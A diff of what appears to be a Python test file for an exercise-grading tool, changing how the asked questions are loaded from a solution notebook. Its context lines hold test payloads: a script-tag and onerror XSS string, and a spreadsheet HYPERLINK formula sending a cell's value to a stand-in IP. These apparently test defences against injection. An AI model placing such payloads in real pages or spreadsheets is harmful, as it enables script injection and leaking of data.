@@ -5,14 +5,15 @@ import random
 from pathlib import Path
 
 from mlm.exercises.compare import judge
+from mlm.exercises.notebooks import exercise_notebook
 from mlm.grading.model import Answer, Result
 from mlm.grading.questions import asked
 
 ROOT = Path(__file__).parents[2]
 EXERCISE = "03-basics"
 QUESTIONS = json.loads((ROOT / f"exercises/keys/{EXERCISE}.json").read_text(encoding="utf8"))["questions"]
-ASKED = asked(EXERCISE, QUESTIONS, ROOT / f"exercises/{EXERCISE}.ipynb", ROOT / "book")
 SOLUTION = ROOT / f"solutions/{EXERCISE}.md"
+ASKED = asked(EXERCISE, QUESTIONS, exercise_notebook(SOLUTION), ROOT / "book")
 
 ATTACK = '<script>document.title="pwned"</script><img src=x onerror=\'document.title="pwned"\'>'
 FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"grade")'
